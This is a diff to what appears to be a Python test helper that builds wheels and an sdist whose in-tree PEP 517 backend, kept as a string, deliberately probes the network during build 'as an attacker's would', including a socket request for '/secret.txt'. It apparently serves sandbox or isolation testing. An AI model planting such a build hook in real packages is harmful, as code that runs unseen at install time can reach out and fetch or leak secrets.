@@ -22,6 +22,7 @@ import html
 import inspect
 import io
 import json
+import os
 import re
 import tarfile
 import textwrap
@@ -47,10 +48,8 @@ def _module(name: str) -> str:
 def write_wheel(folder: str, dist: str, name: str, files: dict[str, str]) -> str:
     """A py3-none-any wheel of `files` (path -> text) of distribution `dist` (its name
     as METADATA says) 1.0, module name `name`, in `folder`: its file name. Standard
-    library only: the probing sdist's backend carries this function's source."""
-    import hashlib
-    import os
-
+    library only: the probing sdist's backend carries this function's source (and
+    imports what it uses)."""
     info = f"{name}-1.0.dist-info"
     entries = {
         **files,
@@ -79,7 +78,7 @@ def wheel(folder: Path, name: str, files: dict[str, str]) -> Path:
 
 BACKEND = '''
 """An in-tree PEP 517 backend whose build probes the network, as an attacker's would."""
-import json, os, socket, urllib.parse
+import base64, hashlib, json, os, socket, urllib.parse, zipfile
 
 def _fetch(s):
     s.sendall(b"GET /secret.txt HTTP/1.0\\r\\n\\r\\n")
